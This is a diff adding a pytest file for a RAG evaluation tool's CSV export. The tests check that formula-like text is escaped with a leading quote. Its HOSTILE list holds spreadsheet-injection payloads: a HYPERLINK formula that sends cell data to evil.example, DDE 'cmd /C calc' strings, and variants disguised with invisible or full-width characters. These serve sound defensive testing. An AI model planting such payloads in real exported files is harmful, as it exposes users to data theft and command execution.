@@ -1,0 +1,101 @@
+"""A table for a spreadsheet: what documents say is never computed there."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+
+from localrag.cli.group import cli
+from localrag.evaluation.dataset import Context, Sample
+from localrag.evaluation.report import Report
+from localrag.evaluation.report_csv import cell, write_csv
+from localrag.evaluation.runs import EvaluatedRun
+from localrag.evaluation.scoring import Evidence, Response, Score, Scored
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"see")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "\u3000=1+1",
+    "\ufeff=1+1",
+    "\u200b=1+1",
+    "\x00=1+1",
+    "＝1+1",
+    "＠SUM(1)",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_text_that_would_be_computed_is_marked_as_text(text: str) -> None:
+    shown = cell(text)
+    assert isinstance(shown, str)
+    assert shown.startswith("'")
+
+
+@pytest.mark.parametrize(
+    "text", ["", "a=1", "1-2", "'quoted", "See [1]; a@b", "中文=好", '","=1+1']
+)
+def test_other_texts_stay_as_they_are(text: str) -> None:
+    assert cell(text) == text
+
+
+def test_numbers_stay_numbers() -> None:
+    assert cell(-0.5) == -0.5
+    assert cell(3) == 3
+    assert cell(None) == ""
+    assert (cell(True), cell(False)) == ("true", "false")
+
+
+def test_a_whole_report_is_read_back_with_nothing_to_compute() -> None:
+    scored = tuple(
+        Scored(
+            Sample(text, f"{text}?", None, None, text),
+            Response(text, (Context(text, f"{text}.pdf", 3, 3),), 1.5),
+            {"faithfulness": Score(-0.25, "scored"), "f1": Score(None, "undefined")},
+            Evidence(),
+            0.0,
+            False,
+        )
+        for text in [*HOSTILE, 'He said "no",\nand left.']
+    )
+    file = io.StringIO(newline="")
+    write_csv(Report("d", "", None, (EvaluatedRun("=run", scored),)), file)
+    rows = list(csv.reader(io.StringIO(file.getvalue(), newline="")))
+    head, *body = rows
+    assert head[-2:] == ["faithfulness", "f1"]
+    assert len(body) == len(scored)
+    for row in body:
+        assert (row[-2], row[-1], row[7]) == ("-0.25", "", "1.5")
+        for text in row[:7] + row[8:9]:
+            bare = text.lstrip("\ufeff\u200b\ufffd").lstrip()
+            assert not bare.startswith(("=", "+", "-", "@", "＝", "＠"))
+    assert body[-1][5] == 'He said "no",\nand left.'
+    assert ",-0.25," in file.getvalue()
+    assert '"1.5"' not in file.getvalue()
+
+
+def test_the_command_writes_it(tmp_path: Path) -> None:
+    data, table = tmp_path / "d.json", tmp_path / "t.csv"
+    rows = [{"question": "=1+1 是什么？", "answer": "@x", "contexts": ["c"], "ideal_answer": "二"}]
+    data.write_text(json.dumps(rows), encoding="utf-8")
+    arguments = ["eval", "run", str(data), "--no-judge", "--csv", str(table)]
+    result = CliRunner().invoke(cli, [*arguments, "--cache", str(tmp_path / "cache")])
+    assert result.exit_code == 0, (result.output, result.exception)
+    assert table.read_bytes().startswith(b"\xef\xbb\xbf")
+    with table.open(encoding="utf-8-sig", newline="") as file:
+        (row,) = csv.DictReader(file)
+    assert (row["question"], row["answer"], row["f1"]) == ("'=1+1 是什么？", "'@x", "0.0")
+    arguments[-1] = str(tmp_path / "none" / "t.csv")
+    refused = CliRunner().invoke(cli, [*arguments, "--cache", str(tmp_path / "cache")])
+    assert "cannot be written" in str(refused.exception)
